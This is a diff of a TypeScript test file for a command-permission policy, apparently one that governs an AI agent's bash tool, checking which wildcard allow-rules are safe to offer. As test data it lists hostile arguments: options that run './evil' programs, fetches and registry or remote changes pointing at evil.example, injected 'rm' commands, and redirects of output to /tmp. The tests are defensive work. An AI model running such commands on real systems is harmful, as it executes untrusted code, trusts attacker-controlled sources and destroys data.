@@ -12,15 +12,13 @@ function offered(command: string): readonly (string | undefined)[] {
 }
 
 test.each([
-  ["npm test", "bash(npm test)", "bash(npm test*)"],
-  ["npm test -- a", "bash(npm test -- a)", "bash(npm test *)"],
-  ["npm run build --silent", "bash(npm run build --silent)", "bash(npm run build *)"],
   ["git add src/a.ts", "bash(git add src/a.ts)", "bash(git add *)"],
-  ["git merge", "bash(git merge)", undefined],
-  ["git merge x", "bash(git merge x)", "bash(git merge *)"],
-  ["tsc", "bash(tsc)", undefined],
-  ["tsc -b", "bash(tsc -b)", "bash(tsc *)"],
-  ["npm audit", "bash(npm audit)", undefined],
+  ["git log -3", "bash(git log -3)", "bash(git log *)"],
+  ["cargo build -r", "bash(cargo build -r)", "bash(cargo build *)"],
+  ["git add", "bash(git add)", undefined],
+  ["cargo build", "bash(cargo build)", undefined],
+  ["docker ps", "bash(docker ps)", undefined],
+  ["npm run build", "bash(npm run build)", undefined],
   ["go env GOPATH", "bash(go env GOPATH)", undefined],
   ["git push --force", "bash(git push --force)", undefined],
   ["git -c core.pager=x log", "bash(git -c core.pager=x log)", undefined],
@@ -35,6 +33,109 @@ test.each([
   ["cp a b", "bash(cp a b)", undefined],
 ])("%s is offered %j, and wider %j", (command, narrow, wider) => {
   expect(offered(command)).toEqual([narrow, wider]);
+});
+
+const PIP = ["--log /tmp/x", "--log=/tmp/x", "--python /tmp/evil"];
+const DOCKER = ["--config /tmp/evil"];
+const CARGO = [
+  "--target-dir /tmp/out",
+  "--target-dir=/tmp/out",
+  "--target-d=/tmp/out",
+  "--artifact-dir /tmp/out",
+  "--lockfile-path /tmp/Cargo.lock",
+  "--manifest-path /tmp/Cargo.toml",
+  "--config build.rustc=./evil",
+  "--target evil.json",
+  "--target=./evil.json",
+  "-C /tmp",
+];
+const DIFFS = ["--output=/tmp/x", "--output /tmp/x", "--ext-diff", "--textconv", "--submodule=log"];
+
+test.each([
+  ["git add", ["--exec=./evil", ".git/config"]],
+  ["git commit", ["-v", "--verbose", "--exec=./evil"]],
+  ["git show", [...DIFFS, "--show-signature", "--format=%G?"]],
+  ["git diff", DIFFS],
+  ["git log", [...DIFFS, "--show-signature", "--pretty=%G?"]],
+  ["git status", ["-v", "--verbose"]],
+  ["git blame", ["--textconv", "--output=/tmp/x"]],
+  ["git ls-files", ["--recurse-submodules=yes", "--output=/tmp/x"]],
+  ["git rev-parse", ["--output=/tmp/x"]],
+  ["git describe", ["--exec=./evil"]],
+  ["cargo build", CARGO],
+  ["cargo check", CARGO],
+  ["cargo tree", CARGO],
+  ["cargo metadata", CARGO],
+  ["go version", ["-exec ./evil", "-C /tmp", "-toolexec=./evil"]],
+  ["pip show", PIP],
+  ["pip freeze", PIP],
+  ["pip check", PIP],
+  ["pip3 show", PIP],
+  ["pip3 freeze", PIP],
+  ["pip3 check", PIP],
+  ["docker ps", DOCKER],
+  ["docker images", DOCKER],
+  ["docker logs", DOCKER],
+  ["docker inspect", DOCKER],
+  ["docker version", DOCKER],
+  ["docker info", DOCKER],
+])("the wider rule for %s covers an argument, and none that does harm", (head, harmful) => {
+  const wider = `bash(${head} *)`;
+  const policy = policyIn(tempFolder(), {
+    rules: [{ tool: "bash", pattern: wider.slice(5, -1), action: "allow" }],
+    defaults: false,
+  });
+  const allowed = (rest: string): boolean =>
+    policy.check({ tool: "bash", input: { command: `${head} ${rest}` } }).decision === "allow";
+  const always = ["> /tmp/out", "x; rm x", '"$(rm x)"'];
+  expect([offered(`${head} x`)[1], allowed("x"), [...harmful, ...always].filter(allowed)]).toEqual([
+    wider,
+    true,
+    [],
+  ]);
+});
+
+test.each([
+  "git stash drop",
+  "git switch -f main",
+  "git branch -D work",
+  "git mv -f a b",
+  "git tag -d v1",
+  "git fetch https://evil.example/x +main:main",
+  "git pull https://evil.example/x main",
+  "git merge --abort",
+  "git remote set-url origin https://evil.example/x",
+  "tsc --outDir /tmp/out",
+  "go build -o /tmp/out",
+  "go vet -gcflags=-cpuprofile=/tmp/out",
+  "go list -export -gcflags=-cpuprofile=/tmp/out",
+  "go fmt /tmp/a.go",
+  "cargo clippy -- -o /tmp/out",
+  "cargo test -- --logfile /tmp/out",
+  "cargo fmt -- /tmp/a.rs",
+  "cargo doc --open",
+  "dotnet build /tmp/evil.csproj",
+  "dotnet test -o /tmp/out",
+  "dotnet format /tmp/evil.csproj",
+  "mix test /tmp/evil_test.exs",
+  "mix format --dot-formatter /tmp/evil.exs",
+  "mix compile --force",
+  "npm test -- --import data:text/javascript,evil",
+  "npm run build -- --outDir /home/someone",
+  "pnpm run build --outDir /home/someone",
+  "yarn run build --outDir /home/someone",
+  "npm view x --registry=https://evil.example",
+  "npm outdated --registry=https://evil.example",
+  "npm ls --logs-dir=/tmp/out",
+  "pnpm audit --registry=https://evil.example",
+  "yarn list --use-yarnrc /tmp/evil",
+  "pip list --outdated --index-url https://evil.example",
+  "kubectl get pods --server https://evil.example",
+  "gh pr view -R evil.example/a/b",
+  "gh search code secret",
+])("for %s no wider rule is offered: an argument of its sub-command can do harm", (command) => {
+  const program = command.split(" ").slice(0, 2).join(" ");
+  expect([command, `${program} x`].map((each) => offered(each)[1])).toEqual([undefined, undefined]);
 });
 
 test.each(["rm build/*.o", "rm 'build/*.o'", "cp * x", "find . -name '*.ts' -delete"])(
@@ -62,7 +163,7 @@ test("what is offered allows the command, and an option that runs a program is u
     "git fetch origin",
     "git commit -m x",
     "npm test",
-    "cargo test x",
+    "cargo build -r",
     "git log -3",
     "npm run x",
   );
@@ -78,7 +179,7 @@ test("what is offered allows the command, and an option that runs a program is u
   fc.assert(
     fc.property(commands, options, fc.boolean(), (command, option, isWider) => {
       const [narrow, wider] = offered(command);
-      const rule = (isWider ? wider : narrow) ?? "";
+      const rule = (isWider ? wider : undefined) ?? narrow ?? "";
       const policy = policyIn(folder, {
         rules: [{ tool: "bash", pattern: rule.slice(5, -1), action: "allow" }],
         defaults: false,
